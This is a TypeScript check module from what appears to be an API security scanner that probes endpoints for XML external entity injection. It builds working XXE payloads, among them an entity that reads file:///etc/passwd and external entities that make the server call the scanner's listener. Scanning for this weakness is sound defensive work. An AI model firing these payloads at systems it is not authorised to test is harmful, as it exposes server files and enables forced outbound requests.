import { type Call, Verbatim } from '../../model/call.ts';
import type { Check, CheckContext } from '../../model/check.ts';
import type { Exchange } from '../../model/exchange.ts';
import type { Proof } from '../../model/finding.ts';
import { Baits, isCalled } from './common/called.ts';
import type { Ground } from './common/ground.ts';
import { again, groundsOf, unlessGone } from './common/targets.ts';
import { isScalar, word } from './common/words.ts';

/** Properties of a JSON body that are written as elements, at most. */
const ELEMENTS = 40;

export const check: Check = {
  id: 'xml-external-entity',
  group: 'injection',
  title: 'External entities of XML',
  practice: 'validate',
  cwe: 'CWE-611',
  owasp: 'API8:2023',
  severity: 'high',
  why: 'The XML parser follows the entities a document declares. Callers read files of the server and make it call addresses of their choice.',
  mend: 'Switch document types off in the parser, or at least external entities and parameter entities. Refuse bodies of types the contract does not name: the gate does.',
  async run(context) {
    const grounds = await groundsOf(context, ({ body, method }) => body !== undefined && method !== 'DELETE');
    const baits = new Baits<Ground>(context);
    await context.each(grounds, async (ground) => {
      await unlessGone(context, ground.operation, async () => {
        for (const type of typesOf(ground)) {
          await file(context, ground, type);
          await internal(context, ground, type);
          await send(context, ground, type, external(await baits.lay(ground)));
        }
      });
      await ground.end();
    });
    for (const ground of await baits.caught(({ operation }) => operation.key)) await called(context, ground);
  },
};

/** XML as the contract has it; a JSON operation may have a parser for it all the same. */
function typesOf({ sample, operation }: Ground): string[] {
  const declared = operation.body?.content.map(({ type }) => type).filter((type) => /[/+]xml$/.test(type)) ?? [];
  if (declared.length > 0) return declared.slice(0, 2);
  return /[/+]json$/.test(sample.call.body?.type ?? '') ? ['application/xml'] : [];
}

/** A document type, and what of it stands in the document's text. */
interface Declared {
  readonly subset: string;
  readonly reference: string;
}

const external = (url: string): Declared => ({
  subset: `<!ENTITY kq SYSTEM "${url}"><!ENTITY % kp SYSTEM "${url}">%kp;`,
  reference: '&kq;',
});

async function send(context: CheckContext, ground: Ground, type: string, declared: Declared): Promise<Exchange> {
  const base = await ground.next();
  const call: Call = { ...base, body: { type, value: new Verbatim(documentOf(context, base, ground, declared)) } };
  return await context.send(call, ground.as);
}

/** The call's own document, or its JSON as elements, with the reference in every text. */
function documentOf(context: CheckContext, base: Call, { as }: Ground, { subset, reference }: Declared): string {
  const own = /[/+]xml$/.test(base.body?.type ?? '') ? context.render(base, as).body : undefined;
  const text = typeof own === 'string' ? own : undefined;
  const root = text?.replace(/^\s*(?:<\?[^>]{0,200}\?>)?\s*(?:<!--[\s\S]{0,500}?-->\s*)?/, '');
  const name = /^<([A-Za-z_][\w:.-]{0,100})/.exec(root ?? '')?.[1];
  if (root !== undefined && name !== undefined) {
    return `<?xml version="1.0"?><!DOCTYPE ${name} [${subset}]>${root.replace(/>([^<>]{1,500})<\//g, `>$1${reference}</`)}`;
  }
  return `<?xml version="1.0"?><!DOCTYPE root [${subset}]><root>${elements(base.body?.value, reference)}</root>`;
}

function elements(value: unknown, reference: string): string {
  if (typeof value !== 'object' || value === null) return reference;
  let text = '';
  for (const [name, inner] of Object.entries(value).slice(0, ELEMENTS)) {
    if (!/^[A-Za-z_][\w.-]{0,60}$/.test(name) || /^xml/i.test(name)) continue;
    const content =
      typeof inner === 'string' ? `${escaped(inner)}${reference}` : isScalar(inner) ? String(inner) : reference;
    text += `<${name}>${content}</${name}>`;
  }
  return text;
}

const escaped = (text: string): string => text.replace(/[^\w .,@:/+-]/g, (char) => `&#${char.codePointAt(0)};`);

const PASSWD = /root:[^:\s]{0,120}:0:0:/;

/** A file of the server comes back. */
async function file(context: CheckContext, ground: Ground, type: string): Promise<void> {
  const { operation } = ground;
  const show = async (): Promise<Proof | undefined> => {
    const control = await send(context, ground, type, { subset: '<!ENTITY kq "plain">', reference: '&kq;' });
    const exchange = await send(context, ground, type, {
      subset: '<!ENTITY kq SYSTEM "file:///etc/passwd">',
      reference: '&kq;',
    });
    const found = PASSWD.exec(exchange.answer.text.replaceAll('\\n', '\n'))?.[0];
    return found === undefined ? undefined : { exchanges: [control, exchange], marks: [found.slice(0, 40)] };
  };
  const proof = await show();
  if (!proof) return;
  const message = `${operation.key} reads files that entities of its XML body name: it gave /etc/passwd`;
  await context.report({
    message,
    operation,
    place: 'the body',
    cause: operation.key,
    proof,
    again: again(context, ground, show),
  });
}

/** Entities are expanded at all: no hole yet, but the door to it. */
async function internal(context: CheckContext, ground: Ground, type: string): Promise<void> {
  const { operation } = ground;
  const random = context.random(operation.key);
  const show = async (): Promise<Proof | undefined> => {
    const [left, right] = [word(random, 7), word(random, 7)];
    const exchange = await send(context, ground, type, {
      subset: `<!ENTITY kp "${right}"><!ENTITY kq "${left}&kp;">`,
      reference: '&kq;',
    });
    if (!exchange.answer.text.includes(left + right)) return undefined;
    return { exchanges: [exchange], marks: [left + right] };
  };
  const proof = await show();
  if (!proof) return;
  await context.report({
    message: `${operation.key} takes XML with a document type and expands the entities it declares`,
    operation,
    place: 'the body',
    cause: `${operation.key} internal`,
    severity: 'informational',
    proof,
    again: again(context, ground, show),
  });
}

async function called(context: CheckContext, ground: Ground): Promise<void> {
  const { operation } = ground;
  for (const type of typesOf(ground)) {
    const show = again(context, ground, async (): Promise<Proof | undefined> => {
      const [named, bait] = [await context.bait(), await context.bait()];
      // A parser that fetches what any text names would be another weakness.
      const control = await send(context, ground, type, { subset: '', reference: escaped(named.url) });
      const exchange = await send(context, ground, type, external(bait.url));
      if (!(await isCalled(context, bait)) || named.called()) return undefined;
      return { exchanges: [control, exchange], marks: [bait.url] };
    });
    const proof = await show();
    if (!proof) continue;
    const message = `${operation.key} calls the address that an entity of its XML body names: the scanner's listener was called`;
    if (await context.report({ message, operation, place: 'the body', cause: operation.key, proof, again: show }))
      return;
  }
}
